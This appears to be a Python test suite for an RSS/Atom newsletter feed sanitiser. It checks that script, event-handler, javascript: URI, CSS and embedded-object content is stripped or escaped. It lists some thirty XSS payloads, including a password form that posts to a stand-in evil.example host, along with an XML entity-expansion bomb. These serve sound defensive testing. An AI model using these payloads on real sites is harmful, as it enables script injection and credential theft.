"""No active content survives sanitising: hostile fragments, alone and inside whole feeds."""

from __future__ import annotations

import re

import pytest

from newsletter.feeds.parse import parse_feed
from newsletter.feeds.sanitize import clean_html, first_image, html_to_text, plain_to_html, safe_url
from tests.support.feeds import atom, rss

BASE = "https://hub.example.org/2021/05/post/"

# Inspired by feedparser's own sanitiser cases and the OWASP XSS filter evasion list.
HOSTILE = [
    '<script>alert("x")</script>',
    '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="https://hub.example.org/a.png" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<body onload="alert(1)">text</body>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src="javascript:alert(1)">',
    '<img srcset="javascript:alert(1) 1x">',
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/steal"><input name="password"><button>Sign</button></form>',
    '<style>body { background: url("javascript:alert(1)") }</style>',
    '<p style="background-image: url(javascript:alert(1))">styled</p>',
    '<div style="width: expression(alert(1))">old IE</div>',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<a href="#" onclick="alert(1)" onmouseover="alert(2)">hover</a>',
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<table background="javascript:alert(1)"><tr><td>cell</td></tr></table>',
]

FORBIDDEN = re.compile(
    r"<\s*(script|style|iframe|form|input|button|object|embed|svg|math|meta|base|link|video)\b"
    r"|\son\w+\s*=|=\s*\"?\s*(javascript|vbscript|data):|expression\(|style=",
    re.IGNORECASE,
)

URL_ATTR = re.compile(r'\s(href|src|cite)="([^"]*)"')


def assert_safe(html: str) -> None:
    assert not FORBIDDEN.search(html), html
    for attr, url in URL_ATTR.findall(html):
        allowed = ("http://", "https://") if attr == "src" else ("http://", "https://", "mailto:")
        assert url.startswith(allowed), (attr, url)


@pytest.mark.parametrize("fragment", HOSTILE)
def test_hostile_fragment_is_defused(fragment):
    assert_safe(clean_html(fragment, BASE))


def test_harmless_markup_is_kept_and_links_resolved_against_the_item():
    cleaned = clean_html(
        '<p>Read <a href="../guide/">the guide</a> and <a href="mailto:hub@example.org">write</a>.</p>'
        '<img src="/img/chart.png" alt="chart" width="400"><img src="ftp://files.example/x.png">',
        BASE,
    )
    assert (
        '<a href="https://hub.example.org/2021/05/guide/" rel="noopener noreferrer">the guide</a>' in cleaned
    )
    assert 'href="mailto:hub@example.org"' in cleaned
    assert '<img src="https://hub.example.org/img/chart.png" alt="chart" width="400">' in cleaned
    assert "ftp:" not in cleaned and cleaned.count("<img") == 1  # the refused image left no empty box


def test_relative_links_without_a_base_are_dropped():
    cleaned = clean_html('<a href="/x">x</a><img src="y.png">', None)
    assert cleaned == '<a rel="noopener noreferrer">x</a>'


def test_plain_text_is_escaped_not_interpreted():
    html = plain_to_html('Use <script>alert(1)</script> & "quotes"\nnext line\n\nsecond paragraph')
    assert html == (
        "<p>Use &lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;quotes&quot;<br>next line</p>"
        "<p>second paragraph</p>"
    )


def test_helpers():
    assert (
        html_to_text("<p>Déclaration <b>politique</b>\n\t&nbsp;:</p><script>x()</script>")
        == "Déclaration politique \xa0:"
    )
    assert first_image('<p><img alt="a" src="https://h.example/a.png?x=1&amp;y=2"></p>') == (
        "https://h.example/a.png?x=1&y=2"
    )
    assert safe_url("javascript:alert(1)", BASE) is None
    assert safe_url("//cdn.example/x.png", BASE) == "https://cdn.example/x.png"


def test_hostile_rss_feed_stores_nothing_active():
    items = [
        {
            "title": f"Item {n} <script>alert(1)</script>",
            "guid": f"h{n}",
            "link": "javascript:alert(1)" if n == 0 else f"https://hub.example.org/p/{n}",
            "description": fragment,
            "content": fragment + '<p onclick="x()">body</p>',
            "enclosure": ("javascript:alert(1)", "image/png"),
        }
        for n, fragment in enumerate(HOSTILE)
    ]
    parsed = parse_feed(
        rss(items).encode(), {}, url="https://hub.example.org/feed/", languages=["en"], default_language="en"
    )
    assert len(parsed.items) == len(HOSTILE)
    for item in parsed.items:
        for html in (item.summary_html, item.content_html):
            assert_safe(html)
        assert "<" not in item.title
        assert item.image_url is None or item.image_url.startswith("https://")
    assert parsed.items[0].link == ""  # a javascript: link is no link


def test_hostile_atom_text_content_is_escaped():
    doc = atom(
        [
            {
                "id": "urn:x:1",
                "title": "Plain",
                "summary": "<script>alert(1)</script> AT&T",
                "summary_type": "text",
                "content": '<img src=x onerror="alert(1)">',
                "content_type": "text",
            },
            {
                "id": "urn:x:2",
                "title": "XHTML-ish",
                "content": '<p>ok</p><iframe src="https://evil.example"></iframe>'
                '<a href="javascript:x()">a</a>',
            },
        ]
    )
    parsed = parse_feed(
        doc.encode(),
        {"content-type": "application/atom+xml"},
        url="https://hub.example.org/f",
        languages=["en"],
        default_language="en",
    )
    first, second = parsed.items
    assert first.summary_html == "<p>&lt;script&gt;alert(1)&lt;/script&gt; AT&amp;T</p>"
    assert first.content_html == "<p>&lt;img src=x onerror=&quot;alert(1)&quot;&gt;</p>"
    assert "<p>ok</p>" in second.content_html
    assert_safe(second.content_html)


def test_entity_expansion_bomb_is_not_expanded():
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % ("" if i == 1 else i - 1)) * 10}">' for i in range(1, 10)
    )
    doc = (
        f'<?xml version="1.0"?><!DOCTYPE rss [{entities}]><rss version="2.0"><channel><title>x</title>'
        "<item><guid>1</guid><title>&lol9;</title></item></channel></rss>"
    )
    parsed = parse_feed(
        doc.encode(), {}, url="https://hub.example.org/f", languages=["en"], default_language="en"
    )
    assert parsed.warning and "amplification" in parsed.warning
    assert all(len(i.title) < 100 for i in parsed.items)
